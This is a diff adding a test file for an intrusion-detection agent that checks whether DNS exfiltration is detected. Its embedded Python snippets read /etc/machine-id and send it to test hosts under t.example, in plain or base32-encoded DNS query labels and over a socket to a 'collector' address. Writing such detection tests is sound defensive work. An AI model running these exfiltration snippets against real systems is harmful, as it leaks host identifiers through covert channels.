@@ -1,0 +1,65 @@
+# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
+"""DNS: identifiers in query names are found; host names learnt from answers name destinations."""
+from idslib import Agent, POLICY_MACHINE_ID, expect, expect_eq, machine_id, run_py
+
+QUERY = """
+import socket, struct, sys
+
+def query(name):
+    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
+    for label in name.split("."):
+        q += bytes([len(label)]) + label.encode()
+    return q + b"\\x00" + struct.pack(">HH", 1, 1)
+
+def resolve(server, name):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(5)
+    s.connect((server, 53))
+    s.send(query(name))
+    answer = s.recv(512)
+    return socket.inet_ntoa(answer[-4:])
+"""
+
+
+def test_machine_id_in_query_name_is_confirmed(host):
+    code = QUERY + """
+mid = open("/etc/machine-id").read().strip()
+resolve(sys.argv[1], mid[:16] + "." + mid[16:] + ".t.example")
+"""
+    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
+        pid, _ = run_py(code, host.addr)
+        a = agent.wait_alert(process__pid=pid)
+    expect_eq("confirmed", a["confidence"], "confidence")
+    expect_eq("dns", a["evidence"]["channel"], "evidence.channel")
+    expect_eq("plain", a["evidence"]["encoding"], "evidence.encoding")
+    expect_eq({"proto": "udp", "port": 53, "addr": host.addr},
+              {k: a["destination"][k] for k in ("proto", "port", "addr")}, "destination")
+    expect(machine_id()[:16] in host.received(), "the query to reach the test host")
+
+
+def test_base32_labels_are_confirmed(host):
+    code = QUERY + """
+import base64
+mid = open("/etc/machine-id").read().strip()
+label = base64.b32encode(bytes.fromhex(mid)).decode().rstrip("=").lower()
+resolve(sys.argv[1], label + ".t.example")
+"""
+    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
+        pid, _ = run_py(code, host.addr)
+        a = agent.wait_alert(process__pid=pid)
+    expect_eq("dns", a["evidence"]["channel"], "evidence.channel")
+    expect_eq("base32", a["evidence"]["encoding"], "evidence.encoding")
+
+
+def test_destination_host_comes_from_the_answer(host):
+    code = QUERY + """
+mid = open("/etc/machine-id").read().strip()
+addr = resolve(sys.argv[1], "collector.t.example")
+s = socket.create_connection((addr, 9000), timeout=5)
+s.sendall(mid.encode())
+"""
+    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
+        pid, _ = run_py(code, host.addr)
+        a = agent.wait_alert(process__pid=pid, destination__port=9000)
+    expect_eq("collector.t.example", a["destination"]["host"], "destination.host")
+    expect_eq("socket", a["evidence"]["channel"], "evidence.channel")
